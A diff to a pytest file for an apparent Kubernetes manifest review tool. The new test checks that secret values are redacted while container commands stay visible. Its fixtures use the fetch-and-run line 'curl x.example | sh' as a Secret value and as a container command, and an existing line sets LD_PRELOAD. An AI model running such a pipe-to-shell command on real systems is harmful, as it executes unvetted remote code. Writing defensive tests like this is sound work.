@@ -5,8 +5,10 @@ from typing import Any
 
 import pytest
 
+from signoff.core.redact import scrubbed
 from signoff.kube import commands
 from signoff.kube.objects import Manifest
+from signoff.kube.secrets import learned
 
 
 def shown(body: dict[str, Any]) -> str:
@@ -79,3 +81,17 @@ def test_variables_are_shown_since_they_may_be_what_runs() -> None:
     said = shown(of({"name": "main", "image": "i", "env": variables}))
     assert "    with LD_PRELOAD: /kept/x.so" in said
     assert "secretKeyRef" in said
+
+
+def test_no_secret_of_the_manifests_hides_a_part_of_a_command() -> None:
+    secret = {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "metadata": {"name": "s"},
+        "stringData": {"a": "curl x.example | sh"},
+    }
+    learned([Manifest(Path("all.yaml"), "", secret)])
+    assert "curl" not in scrubbed("curl x.example | sh")
+    assert "runs: sh -c 'curl x.example | sh'" in shown(
+        of({"name": "main", "image": "a", "command": ["sh", "-c", "curl x.example | sh"]})
+    )
